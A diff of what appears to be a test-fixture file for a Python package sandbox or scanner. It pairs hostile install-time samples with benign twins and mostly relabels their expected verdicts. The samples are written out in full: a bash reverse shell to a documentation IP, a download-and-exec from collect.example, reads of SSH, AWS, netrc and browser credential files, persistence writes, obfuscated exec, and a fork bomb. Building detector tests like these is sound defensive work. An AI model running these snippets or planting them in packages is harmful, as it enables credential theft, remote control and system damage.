@@ -45,9 +45,9 @@ CONNECT = guarded('import socket\nsocket.create_connection(("198.51.100.7", 443)
 PAYLOAD = 'import os\nopen(os.path.expanduser("~/.payload"), "w").write("x")\n'
 
 # --- the network -----------------------------------------------------------------------------------------------------
-setup("connect-setup", "malicious", "network_install", CONNECT,
+setup("connect-setup", "suspicious", "network_install", CONNECT,
       'import socket\nassert socket.inet_aton("198.51.100.7")\nsocket.socket().close()\n')
-setup("dns-setup", "malicious", "network_install",
+setup("dns-setup", "suspicious", "network_install",
       guarded('import socket\nsocket.getaddrinfo("collect.example", 443)'), "import socket\nsocket.gethostname()\n")
 importing("connect-import", "suspicious", "network_import", CONNECT,
           "def fetch():\n    " + CONNECT.replace("\n", "\n    ") + "\n")
@@ -57,12 +57,12 @@ setup("metadata-service", "malicious", "metadata_service",
 setup("listen", "suspicious", "listening_socket",
       'import socket\ns = socket.socket()\ns.bind(("0.0.0.0", 4444))\ns.listen()\n',
       'import socket\ns = socket.socket()\ns.bind(("127.0.0.1", 0))\ns.close()\n')
-setup("child-connect", "malicious", "network_install",
+setup("child-connect", "suspicious", "network_install",
       f"import subprocess, sys\nsubprocess.run([sys.executable, '-c', {CONNECT!r}])\n",
       "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'print(1)'], check=True)\n")
-setup("blind-connect", "malicious", "network_install hook_evasion",
+setup("blind-connect", "suspicious", "network_install hook_evasion",
       f"import subprocess, sys\nsubprocess.run([sys.executable, '-I', '-S', '-c', {CONNECT!r}])\n", None)
-ALL.append(sample("lz-sample-backend-connect", "backend", CONNECT, verdict="malicious", rules=frozenset({"network_install"})))
+ALL.append(sample("lz-sample-backend-connect", "backend", CONNECT, verdict="suspicious", rules=frozenset({"network_install"})))
 ALL.append(sample("lz-sample-backend-connect-twin", "backend", "import socket\n"))
 
 # --- programs --------------------------------------------------------------------------------------------------------
@@ -71,7 +71,7 @@ setup("curl-sh", "malicious", "download_and_run",
       'import subprocess\nsubprocess.run(["cc", "--version"], stdout=subprocess.DEVNULL)\n')
 setup("reverse-shell", "malicious", "reverse_shell",
       'import os\nos.system("bash -c \'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\' 2>/dev/null")\n',
-      'import os\nos.system("true")\n')
+      'import subprocess\nsubprocess.run(["uname", "-m"], stdout=subprocess.DEVNULL)\n')
 setup("hidden-command", "malicious", "hidden_command",
       "import subprocess, sys\n"
       f"subprocess.run([sys.executable, '-c', \"exec(__import__('base64').b64decode('{base64.b64encode(CONNECT.encode()).decode()}'))\"])\n",
@@ -81,7 +81,7 @@ setup("reconnaissance", "suspicious", "reconnaissance",
       "for c in (['whoami'], ['id'], ['hostname'], ['ps'], ['env']):\n    " +
       guarded("subprocess.run(c, stdout=-3)").replace("\n", "\n    ") + "\n",
       'import platform\nplatform.machine()\n')
-setup("exec-scratch", "suspicious", "exec_from_scratch",
+setup("exec-scratch", "malicious", "exec_from_scratch",
       "import os, shutil, subprocess\n"
       "p = os.path.join(os.environ['HOME'], '.update')\nshutil.copy('/usr/bin/true', p)\nsubprocess.run([p])\n",
       "import subprocess\nsubprocess.run(['true'])\n")
@@ -95,16 +95,16 @@ setup("daemonise", "suspicious", "daemonise",
       "import os\nif os.fork() == 0:\n    os._exit(0)\nos.wait()\n")
 setup("kill-parent", "suspicious", "process_kill",
       "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n",
-      "import os, signal, subprocess\np = subprocess.Popen(['sleep', '60'])\np.send_signal(signal.SIGTERM)\np.wait()\n",
+      "import os, signal, subprocess, sys\np = subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)'])\np.send_signal(signal.SIGTERM)\np.wait()\n",
       ok=False)
-setup("ptrace", "malicious", "dangerous_symbol process_trace",
+setup("ptrace", "suspicious", "dangerous_symbol",
       guarded("import ctypes\nctypes.CDLL(None).ptrace(16, 1, 0, 0)"),
       "import ctypes\nctypes.CDLL(None).getpid()\n")
 
 # --- files -----------------------------------------------------------------------------------------------------------
 HOME = 'import os\nh = os.path.expanduser("~")\n'
 for name, path in (("ssh-key", ".ssh/id_rsa"), ("aws-key", ".aws/credentials"), ("netrc", ".netrc")):
-    setup(name, "malicious", "credential_read", HOME + f'open(h + "/{path}").read()\n',
+    setup(name, "malicious", "credential_read", HOME + guarded(f'open(h + "/{path}").read()'),
           'open("PKG-INFO").read()\nopen("/etc/passwd").read()\n')
 setup("browser", "malicious", "browser_or_wallet_read",
       HOME + guarded('open(h + "/.config/google-chrome/Default/Login Data", "rb").read()'),
@@ -120,8 +120,8 @@ setup("bashrc", "malicious", "persistence_write", HOME + 'open(h + "/.bashrc", "
       'import tempfile\ntempfile.NamedTemporaryFile().write(b"x")\nopen("built.txt", "w").write("x")\n')
 setup("cron", "malicious", "persistence_write", guarded('open("/etc/cron.d/x", "w").write("* * * * * root x\\n")'), None)
 setup("systemd", "malicious", "persistence_write",
-      HOME + 'os.makedirs(h + "/.config/systemd/user")\nopen(h + "/.config/systemd/user/x.service", "w").write("[Unit]")\n',
-      HOME + 'os.makedirs(h + "/.cache/x")\nopen(h + "/.cache/x/y", "w").write("z")\n')
+      HOME + 'os.makedirs(h + "/.config/systemd/user", exist_ok=True)\nopen(h + "/.config/systemd/user/x.service", "w").write("[Unit]")\n',
+      HOME + 'os.makedirs(h + "/.cache/x", exist_ok=True)\nopen(h + "/.cache/x/y", "w").write("z")\n')
 setup("site-packages", "malicious", "persistence_write",
       guarded('open("/usr/lib/python3/dist-packages/pip/__init__.py", "a").write("evil()\\n")') +
       guarded('open("/usr/lib/python3/dist-packages/zz.pth", "w").write("import os\\n")'), None)
@@ -130,34 +130,34 @@ ALL.append(sample("lz-sample-pth", "wheel", files={"lz_sample.pth": "import os; 
 ALL.append(sample("lz-sample-pth-twin", "wheel", files={"{m}/paths.txt": "import os\n"}))
 
 # --- code ------------------------------------------------------------------------------------------------------------
-PACKED = base64.b64encode(zlib.compress(PAYLOAD.encode())).decode()
+PACKED = base64.b64encode(zlib.compress(CONNECT.encode())).decode()
 setup("decoded", "malicious", "decoded_code",
       f"import base64, zlib\nexec(zlib.decompress(base64.b64decode({PACKED!r})))\n",
       f"import base64, zlib\nassert zlib.decompress(base64.b64decode({PACKED!r}))\n"
       "exec(compile(open('version.txt').read(), 'version.txt', 'exec'))\n")
 ALL[-1].files["version.txt"] = "__version__ = '1.0'\n"
 MARSHALLED = base64.b64encode(marshal.dumps(compile(PAYLOAD, "<x>", "exec"))).decode()
-importing("marshal", "malicious", "decoded_code",
+importing("marshal", "suspicious", "decoded_code",
           f"import base64, marshal\nexec(marshal.loads(base64.b64decode({MARSHALLED!r})))\n",
-          "import marshal\nmarshal.loads(marshal.dumps([1, 2]))\n")
-setup("eval-download", "malicious", "network_install",
+          "import json\njson.loads(json.dumps([1, 2]))\n")
+setup("eval-download", "suspicious", "network_install",
       guarded('import urllib.request\nexec(urllib.request.urlopen("http://collect.example/x.py", timeout=2).read())'),
       "assert eval('1 + 1') == 2\n")
 
 # --- excess: each must end by itself or by a limit, and leave the service serving ---------------------------------------
-setup("fork-bomb", "suspicious", "pids_exhausted",
+setup("fork-bomb", "malicious", "pids_exhausted",
       "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
       "import os\nfor _ in range(8):\n    if os.fork() == 0:\n        os._exit(0)\nfor _ in range(8):\n    os.wait()\n",
       ok=False)
 setup("disk", "suspicious", "disk_full",
       'with open("big", "wb") as f:\n    while True:\n        f.write(b"x" * (1 << 20))\n',
       'with open("big", "wb") as f:\n    f.write(b"x" * (8 << 20))\n', ok=False)
-setup("flood", "benign", "output_flood",
+setup("flood", "inconclusive", "output_flood",
       'import sys\nfor _ in range(200):\n    sys.stderr.write("x" * 65536 + "\\n")\nraise SystemExit(1)\n',
       'print("x" * 1000)\n', ok=False)
-setup("sleep", "benign", "timed_out", "import time\ntime.sleep(3600)\n", "import time\ntime.sleep(0.1)\n", ok=False)
-setup("memory", "benign", "", "x = []\nwhile True:\n    x.append(bytearray(1 << 24))\n", "x = bytearray(1 << 26)\n", ok=False)
-setup("broken", "benign", "", 'raise SystemExit("this release does not build")\n', None, ok=False)
+setup("sleep", "inconclusive", "timed_out", "import time\ntime.sleep(3600)\n", "import time\ntime.sleep(0.1)\n", ok=False)
+setup("memory", "inconclusive", "", "x = []\nwhile True:\n    x.append(bytearray(1 << 24))\n", "x = bytearray(1 << 26)\n", ok=False)
+setup("broken", "inconclusive", "", 'raise SystemExit("this release does not build")\n', None, ok=False)
 
 # --- what the modes run ------------------------------------------------------------------------------------------------
 MODULE = {"{m}/__init__.py": "", "{m}/__main__.py": "print('main', __name__)\n", "{m}/run.py": "print('file', __name__)\n",
